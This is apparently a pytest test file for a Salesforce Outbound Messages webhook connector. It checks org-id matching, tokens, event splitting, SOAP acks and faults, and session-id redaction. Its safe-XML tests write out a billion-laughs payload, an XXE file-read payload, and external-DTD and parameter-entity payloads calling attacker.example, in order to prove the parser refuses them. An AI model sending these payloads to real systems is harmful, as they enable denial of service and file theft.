"""Salesforce Outbound Messages as Salesforce documents them, beyond the generic suite.

- https://developer.salesforce.com/docs/atlas.en-us.api.meta/api/sforce_api_om_outboundmessaging_understanding.htm
  and …_notifications.htm: up to 100 notifications a message, retried for 24 hours until acknowledged,
  possibly delivered more than once (check the notification Id), so a repeat is acknowledged too.
- …/sforce_api_om_outboundmessaging_wsdl.htm: the ``notifications`` element (OrganizationId, ActionId,
  SessionId, EnterpriseUrl, PartnerUrl, Notification with Id and sObject) and the
  ``notificationsResponse``/``Ack`` answer, as text/xml (SOAP 1.1).
- 15- and 18-character ids name the same record (ID field type, https://developer.salesforce.com/docs/
  atlas.en-us.api.meta/api/field_types.htm: a case-sensitive 15-character id, and an 18-character
  case-insensitive form with a 3-character suffix encoding the case of the first 15).
- SOAP 1.1 (https://www.w3.org/TR/2000/NOTE-SOAP-20000508/ §3: "A SOAP message MUST NOT contain a Document
  Type Declaration"): hub refuses any DTD, which rules out XXE and entity expansion.
"""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import httpx
import pytest

from hub.connectors.connector import SourceContext, hooks_for
from hub.connectors.hooks.salesforce import ACK, XmlRefused, parse_xml, record_action, same_org
from hub.connectors.parse import ParseError
from hub.connectors.verify import RawRequest, VerificationError
from tests.conformance.kit import CATALOGUE, FIXTURES, load
from tests.conftest import create, wait_for

SPEC = CATALOGUE.get("salesforce")
assert SPEC is not None
HOOKS = hooks_for(SPEC)
TOKEN = "sf-0utb0und-t0ken"
ORG18 = "00Di0000000ilESEAY"
ORG15 = "00Di0000000ilES"
BATCH = str(load(FIXTURES / "salesforce" / "Opportunity.batch.json")["body"]).encode()
HEADERS = {"Content-Type": "text/xml; charset=utf-8", "SOAPAction": '""'}


def raw(body: bytes, query: dict[str, str] | None = None) -> RawRequest:
    params = {"token": TOKEN} if query is None else query
    return RawRequest(body=body, headers={"content-type": "text/xml"}, query=params)


def check(req: RawRequest, secret: str | None = TOKEN, org: str = ORG18) -> None:
    HOOKS.verify(SPEC, SourceContext("src_sf", secret, {"organization_id": org}, ""), secret, req, 0.0)


def code_of(req: RawRequest, secret: str | None = TOKEN, org: str = ORG18) -> str:
    with pytest.raises(VerificationError) as info:
        check(req, secret, org)
    return info.value.code


def split(body: bytes) -> list[Any]:
    return HOOKS.split(SPEC, SourceContext("src_sf", TOKEN, {"organization_id": ORG18}, ""), raw(body), 0.0)


# --- the organization and the token ------------------------------------------------------------------------


def test_15_and_18_character_ids_of_one_org_match_case_sensitively() -> None:
    assert same_org(ORG18, ORG15) and same_org(ORG15, ORG18) and same_org(ORG18, ORG18)
    assert not same_org(ORG18, ORG15.lower())  # the 15-character form is case-sensitive
    assert not same_org(ORG18, "00Di0000000ilEX")


def case_safe_suffix(id15: str) -> str:
    """The 18-character form's suffix: for each 5 characters, a bit per upper-case letter, as A-Z0-5."""
    out = ""
    for i in range(0, 15, 5):
        bits = sum(1 << n for n, ch in enumerate(id15[i : i + 5]) if ch.isupper())
        out += "ABCDEFGHIJKLMNOPQRSTUVWXYZ012345"[bits]
    return out


def test_the_fixtures_org_id_is_the_18_character_form_of_its_15() -> None:
    assert ORG15 + case_safe_suffix(ORG15) == ORG18


@pytest.mark.parametrize("org", [ORG18, ORG15, ORG18[:15] + "XYZ"])  # the 3 suffix characters are not compared
def test_the_configured_org_in_either_form_accepts_the_message(org: str) -> None:
    check(raw(BATCH), org=org)


@pytest.mark.parametrize(
    ("org", "code"),
    [
        ("00Di0000000ilEX", "bad_signature"),  # another org
        ("00di0000000iles", "bad_signature"),  # case matters
        ("not-an-org-id", "bad_signature"),  # the source is misconfigured
        ("", "bad_signature"),
    ],
)
def test_another_org_is_refused(org: str, code: str) -> None:
    assert code_of(raw(BATCH), org=org) == code


def test_the_token_when_the_source_has_a_secret() -> None:
    assert code_of(raw(BATCH, {})) == "missing_signature"
    assert code_of(raw(BATCH, {"token": TOKEN + "x"})) == "bad_signature"
    check(raw(BATCH, {}), secret=None)  # no secret: the organization alone decides


def test_a_body_without_an_organization_is_refused() -> None:
    no_org = BATCH.replace(b"<OrganizationId>00Di0000000ilESEAY</OrganizationId>", b"")
    assert code_of(raw(no_org)) == "missing_signature"
    assert code_of(raw(b'{"OrganizationId": "00Di0000000ilESEAY"}')) == "missing_signature"
    assert code_of(raw(b"<notifications/>")) == "missing_signature"


# --- safe XML -----------------------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>
<notifications xmlns="http://soap.sforce.com/2005/09/outbound"><OrganizationId>&lol9;</OrganizationId>
</notifications></soapenv:Body></soapenv:Envelope>"""


def xxe(path: Path) -> bytes:
    return BATCH.replace(
        b"<soapenv:Envelope",
        f'<!DOCTYPE soapenv:Envelope [<!ENTITY xxe SYSTEM "file://{path}">]><soapenv:Envelope'.encode(),
        1,
    ).replace(b"<sf:Name>Acme - 1,200 Widgets</sf:Name>", b"<sf:Name>&xxe;</sf:Name>")


def test_billion_laughs_is_refused_at_once() -> None:
    started = time.monotonic()
    with pytest.raises(XmlRefused, match="document type declaration"):
        parse_xml(BILLION_LAUGHS)
    assert time.monotonic() - started < 1.0
    assert code_of(raw(BILLION_LAUGHS)) == "missing_signature"


def test_an_external_entity_is_never_read(tmp_path: Path) -> None:
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text("TOP-SECRET-CONTENT")
    with pytest.raises(XmlRefused):
        parse_xml(xxe(secret_file))
    with pytest.raises(ParseError) as info:
        split(xxe(secret_file))
    assert "TOP-SECRET" not in str(info.value)


def test_an_external_dtd_and_parameter_entities_are_refused() -> None:
    external = b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>'
    parameter = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><x/>'
    for body in (external, parameter):
        with pytest.raises(XmlRefused):
            parse_xml(body)


def test_deep_nesting_and_garbage_are_refused() -> None:
    with pytest.raises(XmlRefused, match="deeply"):
        parse_xml(b"<a>" * 100 + b"</a>" * 100)
    unknown_encoding = b'<?xml version="1.0" encoding="foo"?><a/>'
    for body in (b"", b"not xml", b"<a><b></a>", b"\xff\xfe<", unknown_encoding):
        with pytest.raises(XmlRefused):
            parse_xml(body)


# --- splitting ---------------------------------------------------------------------------------------------


def test_one_event_per_notification_with_its_own_payload_and_never_the_session_id() -> None:
    body = BATCH.replace(b'<SessionId xsi:nil="true"/>', b"<SessionId>00Dxx0000001gPL!AR8AQJXg5oj8</SessionId>")
    events = split(body)
    assert [(e.type, e.dedup_key, e.subject) for e in events] == [
        ("Opportunity.outbound", "04li000000B0aaaAAB", "Opportunity:006i000000OSdUqAAL"),
        ("Opportunity.outbound", "04li000000B0aabAAB", "Opportunity:006i000000OSdTnAAL"),
    ]
    payload = events[1].payload
    assert payload["sObject"]["StageName"] == "Negotiation/Review"
    assert payload["record_url"] == "https://na15.salesforce.com/006i000000OSdTnAAL"
    assert payload["organization_id"] == ORG18 and payload["notification_id"] == "04li000000B0aabAAB"
    assert all(e.own_payload for e in events)
    assert "00Dxx0000001gPL" not in json.dumps([e.payload for e in events])


def test_nil_fields_are_none_and_the_type_comes_from_xsi_type() -> None:
    (ev,) = split(str(load(FIXTURES / "salesforce" / "Contact.updated.json")["body"]).encode())
    assert ev.payload["sObject"]["Phone"] is None and ev.payload["object_type"] == "Contact"


@pytest.mark.parametrize(
    ("change", "code"),
    [
        ((b' xsi:type="sf:Opportunity"', b""), "missing_event_type"),
        ((b"<Notification>", b"<Other>"), "unparseable_body"),  # then the XML is broken
    ],
)
def test_malformed_notifications_are_refused(change: tuple[bytes, bytes], code: str) -> None:
    with pytest.raises(ParseError) as info:
        split(BATCH.replace(*change))
    assert info.value.code == code


def test_a_message_over_100_notifications_is_refused() -> None:
    start = BATCH.index(b"   <Notification>")
    end = BATCH.index(b"</Notification>") + len(b"</Notification>\n")
    one = BATCH[start:end]
    body = BATCH[:start] + one * 101 + BATCH[end:]
    with pytest.raises(ParseError) as info:
        split(body)
    assert info.value.code == "too_many_events"


def test_the_view_reads_the_record_state() -> None:
    assert record_action({"IsWon": "true", "IsClosed": "true"}) == "won"
    assert record_action({"IsWon": "false", "IsClosed": "true"}) == "lost"
    assert record_action({"CreatedDate": "x", "LastModifiedDate": "x"}) == "created"
    assert record_action({"CreatedDate": "x", "LastModifiedDate": "y"}) == "updated"
    assert record_action({}) == "updated"


# --- through the app: every answer --------------------------------------------------------------------------


async def salesforce_source(client: httpx.AsyncClient, secret: str | None = TOKEN, org: str = ORG15) -> dict[str, Any]:
    body: dict[str, Any] = {"connector": "salesforce", "name": "sf", "settings": {"organization_id": org}}
    if secret:
        body["secret"] = secret
    return await create(client, "/api/v1/sources", body)


def fault_code(resp: httpx.Response) -> str:
    assert resp.headers["content-type"].startswith("text/xml"), resp.headers
    root = parse_xml(resp.content)
    body = root.children[0]
    fault = body.children[0]
    assert (root.name, body.name, fault.name) == ("Envelope", "Body", "Fault")
    faultcode = next(c for c in fault.children if c.name == "faultcode").text
    detail = next(c for c in fault.children if c.name == "detail")
    assert faultcode == ("soapenv:Server" if resp.status_code >= 500 else "soapenv:Client")
    return detail.children[0].text


async def test_every_accepted_message_and_its_repeat_get_the_soap_ack(
    fast_ingest: bool, client: httpx.AsyncClient
) -> None:
    """Through the ingest fast path and the FastAPI route alike."""
    src = await salesforce_source(client)
    inbox = await create(client, "/api/v1/targets", {"kind": "inbox", "name": "i"})
    await create(client, "/api/v1/routes", {"source_id": src["id"], "target_id": inbox["id"], "events": ["*"]})
    url = f"{src['ingest_url']}?token={TOKEN}"
    first = await client.post(url, content=BATCH, headers=HEADERS)
    assert (first.status_code, first.headers["content-type"], first.content) == (200, "text/xml; charset=utf-8", ACK)
    ack = parse_xml(first.content).children[0].children[0]
    assert (ack.ns, ack.name, ack.children[0].name, ack.children[0].text) == (
        "http://soap.sforce.com/2005/09/outbound",
        "notificationsResponse",
        "Ack",
        "true",
    )

    async def two_posts() -> bool:
        return len((await client.get("/api/v1/inbox")).json()) == 2

    await wait_for(two_posts)
    # Salesforce redelivers the message: the same Ack, nothing stored or delivered again
    again = await client.post(url, content=BATCH, headers=HEADERS)
    assert (again.status_code, again.headers["content-type"], again.content) == (200, "text/xml; charset=utf-8", ACK)
    assert len((await client.get("/api/v1/events", params={"source_id": src["id"]})).json()) == 2
    assert len((await client.get("/api/v1/inbox")).json()) == 2


async def test_refusals_are_soap_faults(client: httpx.AsyncClient) -> None:
    src = await salesforce_source(client)
    base = src["ingest_url"]
    no_token = await client.post(base, content=BATCH, headers=HEADERS)
    assert (no_token.status_code, fault_code(no_token)) == (401, "missing_signature")
    wrong = await client.post(f"{base}?token=nope", content=BATCH, headers=HEADERS)
    assert (wrong.status_code, fault_code(wrong)) == (401, "bad_signature")
    other_org = BATCH.replace(ORG18.encode(), b"00Dj0000000abcDEFG")
    refused = await client.post(f"{base}?token={TOKEN}", content=other_org, headers=HEADERS)
    assert (refused.status_code, fault_code(refused)) == (401, "bad_signature")
    untyped = BATCH.replace(b' xsi:type="sf:Opportunity"', b"", 1)
    bad = await client.post(f"{base}?token={TOKEN}", content=untyped, headers=HEADERS)
    assert (bad.status_code, fault_code(bad)) == (400, "missing_event_type")
    get = await client.get(base)
    allowed = "GET, HEAD, POST, OPTIONS"
    assert (get.status_code, fault_code(get), get.headers["allow"]) == (405, "method_not_allowed", allowed)
    assert (await client.head(base)).status_code == 200
    assert (await client.get("/api/v1/events", params={"source_id": src["id"]})).json() == []


async def test_a_fault_message_is_escaped(client: httpx.AsyncClient) -> None:
    src = await salesforce_source(client, secret=None)
    resp = await client.post(src["ingest_url"], content=b"<a><b></a>", headers=HEADERS)
    assert resp.status_code == 401
    assert fault_code(resp) == "missing_signature"  # the message (with expat's text) parsed back as XML


async def test_a_source_without_a_token_and_the_required_organization(client: httpx.AsyncClient) -> None:
    src = await salesforce_source(client, secret=None, org=ORG18)
    ok = await client.post(src["ingest_url"], content=BATCH, headers=HEADERS)
    assert (ok.status_code, ok.content) == (200, ACK)
    missing = await client.post("/api/v1/sources", json={"connector": "salesforce", "name": "x", "settings": {}})
    assert missing.status_code == 422
    assert missing.json()["error"]["details"]["field"] == "settings.organization_id"


async def test_xxe_through_the_app_reveals_nothing(client: httpx.AsyncClient, tmp_path: Path) -> None:
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text("TOP-SECRET-CONTENT")
    src = await salesforce_source(client)
    resp = await client.post(f"{src['ingest_url']}?token={TOKEN}", content=xxe(secret_file), headers=HEADERS)
    assert resp.status_code == 401 and "TOP-SECRET" not in resp.text
    laughs = await client.post(f"{src['ingest_url']}?token={TOKEN}", content=BILLION_LAUGHS, headers=HEADERS)
    assert laughs.status_code == 401
    assert (await client.get("/api/v1/events", params={"source_id": src["id"]})).json() == []


async def test_the_stored_message_never_keeps_a_session_id(client: httpx.AsyncClient, runtime: Any) -> None:
    """An admin who ticks "Send Session ID" sends a live API session of a user: never kept at rest."""
    import sqlalchemy as sa

    from hub.db import tables as t

    session = b"00Dxx0000001gPL!AR8AQJXg5oj8"
    body = BATCH.replace(b'<SessionId xsi:nil="true"/>', b"<SessionId>" + session + b"</SessionId>")
    src = await salesforce_source(client)
    resp = await client.post(f"{src['ingest_url']}?token={TOKEN}", content=body, headers=HEADERS)
    assert resp.status_code == 200
    async with runtime.engine.connect() as conn:
        rows = (await conn.execute(sa.select(t.events.c.body, t.events.c.payload))).all()
    assert len(rows) == 2 and b"<SessionId>***</SessionId>" in rows[0].body
    assert all(session not in r.body and session.decode() not in (r.payload or "") for r in rows)
